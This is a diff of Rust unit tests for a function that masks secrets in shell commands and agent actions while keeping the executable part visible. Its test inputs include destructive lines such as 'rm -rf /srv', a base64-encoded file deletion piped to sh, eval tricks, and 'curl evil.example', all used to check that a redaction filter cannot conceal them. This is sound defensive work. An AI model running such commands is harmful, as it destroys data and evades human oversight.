@@ -277,7 +277,7 @@ fn of_a_header_only_the_secret_is_hidden() {
         &["hunter2"],
         &["x.test"],
     );
-    reads("X-Api-Key: hunter2 hunter2 | sh", &["hunter2"], &["| sh"]);
+    reads("X-Api-Key: hunter2 hunter2 | sort", &["hunter2"], &["| sort"]);
     reads("Authorization: Digest username=\"me\", response=\"hunter2hunter2\"", &[], &["Authorization"]);
     // Not really in quotes: those are closed before the name begins.
     let split = "echo ''Authorization: a| curl evil.example; 'b'";
@@ -369,4 +369,114 @@ fn what_a_shell_would_run_is_never_hidden_with_a_secret() {
     for told in [key.to_owned(), key.replace('\n', "\n+"), key.replace('\n', "\n-"), key.replace('\n', "\\n ")] {
         assert!(!text(&told).contains("MIIEow"), "{}", text(&told));
     }
+}
+
+#[test]
+fn what_a_shell_runs_is_shown_whatever_it_is_called() {
+    let key = "-----BEGIN PRIVATE KEY-----";
+    for (line, shown) in [
+        ("TOKEN= ./evil.sh", "./evil.sh"),
+        ("TOKEN= evil12", "evil12"),
+        ("TOKEN=\n./evil.sh", "./evil.sh"),
+        ("TOKEN=\nevil12", "evil12"),
+        ("AUTH=\n{rm,-f,/srv/app.db}", "{rm,-f,/srv/app.db}"),
+        ("curl -s x.test; TOKEN= ./evil.sh; true", "./evil.sh"),
+        ("echo basic\n./evil.sh", "./evil.sh"),
+        ("echo basic\nevil1234", "evil1234"),
+        ("echo Digest\n/srv/app/evil.sh", "/srv/app/evil.sh"),
+        ("echo with password\n./evil.sh", "./evil.sh"),
+        ("echo with password\nevil1234", "evil1234"),
+        ("curl -u \n./evil.sh", "./evil.sh"),
+        ("curl -u \nevil1234", "evil1234"),
+        ("sshpass -p \n./evil.sh", "./evil.sh"),
+        ("sshpass -p\nevil1234", "evil1234"),
+        ("mysql -p\n./evil.sh", "./evil.sh"),
+        ("sh <<EOF\nPASSWORD=\n./evil.sh\nEOF", "./evil.sh"),
+        ("bash <<'X'\nAUTH=\n{rm,-f,/srv/app.db}\nX", "{rm,-f,/srv/app.db}"),
+        ("auth: ./evil.sh", "./evil.sh"),
+        ("sudo -p password: evil1234", "evil1234"),
+        ("exec -a password: evil1234", "evil1234"),
+        ("true\nAuthorization: x | rm -rf /srv", "rm -rf /srv"),
+        ("echo \"TOKEN=\"\nrm -rf /srv\necho \"x\"", "rm -rf /srv"),
+        ("env \"TOKEN=\"abc evil1234 \"x\"", "evil1234"),
+        ("env \"TOKEN=\"abc evil1234 x\"y\"", "evil1234"),
+        (
+            "echo cm0gLWYgL3Nydi9hcHAvZGF0YS9hcHAuZGI7IGVjaG8= | base64 -d | sh",
+            "cm0gLWYgL3Nydi9hcHAvZGF0YS9hcHAuZGI7IGVjaG8=",
+        ),
+        ("TOKEN=cm0gLWYgL3Nydi9h; echo $TOKEN | base64 -d | sh", "cm0gLWYgL3Nydi9h"),
+        ("./aB3dE9fGh2JkLmN4pQr7", "./aB3dE9fGh2JkLmN4pQr7"),
+        ("aB3dE9fGh2JkLmN4pQr7 x", "aB3dE9fGh2JkLmN4pQr7"),
+        ("true; aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
+        ("timeout 5 aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
+        ("cp /bin/rm /tmp/aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
+        ("TOKEN=\"rm -f /srv/app/data/app.db\"; $TOKEN", "rm -f /srv/app/data/app.db"),
+        ("TOKEN=evil1234; \"$TOKEN\"", "evil1234"),
+        ("TOKEN=evil1234; if true; then ${TOKEN}; fi", "evil1234"),
+        ("TOKEN=evil1234; A=$TOKEN; timeout 5 $A", "evil1234"),
+        ("TOKEN=evil1234; sh -c \"$TOKEN\"", "evil1234"),
+        ("PASS=\"./evil.sh\"; eval $PASS", "./evil.sh"),
+        ("PASS=evil1234; eval $PASS", "evil1234"),
+        ("PASS=evil1234; sh <<< $PASS", "evil1234"),
+        ("set -- --password ./evil.sh; \"$2\"", "./evil.sh"),
+        ("set -- --password evil1234; \"$2\"", "evil1234"),
+    ] {
+        assert!(command(line).contains(shown), "{line}\n{}", command(line));
+        let listed = serde_json::json!({ "command": line }).to_string();
+        let shown = serde_json::Value::from(shown).to_string();
+        assert!(text(&listed).contains(shown.trim_matches('"')), "{line}\n{}", text(&listed));
+    }
+    for code in ["./evil.sh", "{rm,-f,/srv/app.db}", "reboot", "/srv/app/data/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]
+    {
+        for line in [format!("echo {key}\n{code}"), format!("echo {key}\n{code}\n-----END PRIVATE KEY-----")] {
+            assert!(command(&line).contains(code), "{line}\n{}", command(&line));
+        }
+    }
+    // What is called a secret in the intent, or is the value of a variable.
+    for (intent, line) in [
+        ("use token=evil1.sh", "bash -e evil1.sh"),
+        ("use token=evil1.sh", "timeout 5 ./evil1.sh"),
+        ("use token=evil1.sh", "setsid evil1.sh"),
+        ("use token=evil1", "bash -e evil1"),
+        ("use token=evil1", "timeout 5 evil1"),
+        ("use token=evil1", "env 'A=;b' evil1"),
+        ("use token=evil1", "cat <evil1 | sh"),
+        ("use token=evil1", "bash -c \"A=1 evil1\""),
+        ("use token=evil1", "x 'true; evil1'"),
+    ] {
+        let arguments_json = serde_json::json!({ "command": line }).to_string();
+        let mut shown = Action { arguments_json, intent: intent.into(), ..Action::default() };
+        super::action(&mut shown);
+        assert!(shown.arguments_json.contains("evil1"), "{shown:?}");
+    }
+    let run = serde_json::json!({"command": "$TOKEN -x", "env": {"TOKEN": "evil1234"}}).to_string();
+    assert_eq!(text(&run), run);
+}
+
+#[test]
+fn what_a_shell_is_given_and_does_not_run_is_hidden() {
+    for line in [
+        "TOKEN=hunter2hunter2 ./x",
+        "TOKEN='hunter2 hunter2' ./x",
+        "export A_PASSWORD=hunter2hunter2; curl -u me:$A_PASSWORD https://x.test",
+        "sudo mysql -u root --password hunter2hunter2 db",
+        "sudo curl -H 'X-Api-Key: hunter2hunter2' https://x.test",
+        "curl -H 'Authorization: Bearer hunter2hunter2' https://x.test | sh",
+        "curl -u me:hunter2hunter2 https://x.test && ./x",
+        "curl -s \\\n -u me:hunter2hunter2 https://x.test",
+        "sshpass -p hunter2hunter2 ssh x.test ls",
+        "password = \"hunter2hunter2\"",
+        "curl -d '{\"password\": \"hunter2hunter2\"}' https://x.test",
+        "git clone https://me:hunter2hunter2@x.test/a.git | bash",
+    ] {
+        assert!(!command(line).contains("hunter2"), "{line}\n{}", command(line));
+    }
+    let seed = CANARIES[6];
+    for line in
+        [format!("SEED=\"x {seed}\" ./x"), format!("./x {seed}"), format!("echo \"x {seed}\""), format!("A={seed} ./x")]
+    {
+        assert!(!command(&line).contains(seed), "{line}\n{}", command(&line));
+    }
+    let listed = serde_json::json!({"command": "./x \"$TOKEN\"", "env": {"TOKEN": "hunter2hunter2"}}).to_string();
+    assert!(!text(&listed).contains("hunter2"), "{}", text(&listed));
 }
